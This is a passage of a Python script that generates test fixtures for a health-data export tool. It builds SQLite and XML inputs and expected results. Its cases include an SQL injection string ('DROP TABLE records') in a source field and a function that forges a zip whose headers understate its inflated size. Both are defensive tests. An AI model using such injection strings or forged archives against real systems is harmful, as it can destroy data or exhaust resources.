        connection.execute("insert into records values (1, 80)")
        connection.commit()
        connection.close()
        with open(path, "rb") as handle:
            return handle.read()


case("fail/database/database-as-input",
     "a database that is not one of the tool's, named as the input, is said to be one", EXPORT, 65,
     "is an SQLite database, but not one of health-exporter's: it has no export_info, records and summaries tables",
     files={"input.sqlite": sqlite_file()})
case("fail/database/database-as-database-input",
     "the database command reads only a database of the tool's as its input", DATABASE, 65,
     "is an SQLite database, but not one of health-exporter's: it has no export_info, records and summaries tables",
     files={"input.sqlite": sqlite_file()})
case("fail/database/foreign-database-to-mcp", "the assistant server reads only a database of this tool's",
     ["mcp", "{input}"], 65, "is an SQLite database, but not one of health-exporter's: its schema version",
     files={"input.sqlite": sqlite_file()})
case("fail/database/truncated-database-to-mcp", "a database cut short is said to be damaged, never read",
     ["mcp", "{input}"], 65, "is an SQLite database, but not one of health-exporter's: database disk image is malformed",
     files={"input.sqlite": sqlite_file()[:3000]})
case("pass/database/hostile-text", "text made to break SQL is stored as read; the database stays intact",
     DATABASE, 0, "", None,
     {"input.xml": document(record("StepCount", "5432", source="x'); DROP TABLE records;--")
                            + record("StepCount", "7", source="\u2028&quot;&#9;\\"))},
     sql=["select count(*) || ' ' || count(distinct source_id) from records; pragma integrity_check;",
          "2 2\nok\n"])
case("pass/database/values-below-zero", "what can be below zero is kept: a valence, a temperature, a prescription",
     DATABASE, 0, "", None,
     {"input.xml": document(record("BodyTemperature", "-1.5", unit="degC")
                            + record("AppleSleepingWristTemperature", "-0.42", unit="degC")
                            + ' <StateOfMind kind="HKStateOfMindKindDailyMood" valence="-0.8" labels="sad" '
                              'sourceName="Mind" startDate="2026-01-11 21:00:00 -0500" endDate="2026-01-11 21:00:00 -0500"/>\n')},
     sql=["select group_concat(value) from records; select valence from state_of_mind;", "-1.5,-0.42\n-0.8\n"])


def write():
    for kind in ("pass", "fail"):
        shutil.rmtree(os.path.join(ROOT, kind), ignore_errors=True)
    for folder, about, arguments, exit, message, rows, files, zipped, more in CASES:
        path = os.path.join(ROOT, folder)
        os.makedirs(path, exist_ok=True)
        for name, content in files.items():
            target = os.path.join(path, name)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as handle:
                handle.write(content.encode("utf-8") if isinstance(content, str) else content)
        if zipped is not None:
            with zipfile.ZipFile(os.path.join(path, "input.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
                # A list of pairs may name an entry twice (zipfile warns, and writes both).
                import warnings
                warnings.simplefilter("ignore", UserWarning)
                for name, content in (zipped.items() if isinstance(zipped, dict) else zipped):
                    info = zipfile.ZipInfo(name, date_time=(2026, 1, 20, 7, 0, 0))
                    info.compress_type = zipfile.ZIP_DEFLATED
                    data = content.encode("utf-8") if isinstance(content, str) else content
                    archive.writestr(info, data)
            if folder == "fail/zip/size-lies":
                lie(os.path.join(path, "input.zip"))
        sidecar = {"about": about, "arguments": arguments, "exit": exit, "message": message}
        if rows is not None:
            sidecar["rows"] = rows
        sidecar.update(more)
        with open(os.path.join(path, "case.json"), "w") as handle:
            json.dump(sidecar, handle, indent=2, ensure_ascii=True)
            handle.write("\n")


def lie(path):
    """Rewrites the archive so that its one entry inflates to a megabyte of spaces though both its
    headers declare the size of the three bytes it was made from."""
    import zlib
    content = b" " * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(content) + compressor.flush()
    with zipfile.ZipFile(path) as archive:
        info = archive.infolist()[0]
    name = info.filename.encode()
    crc = zlib.crc32(content)
    import struct
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5C21, crc, len(data), 3, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5C21, crc, len(data), 3,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    with open(path, "wb") as handle:
        handle.write(local + data + central + end)


if __name__ == "__main__":
    write()
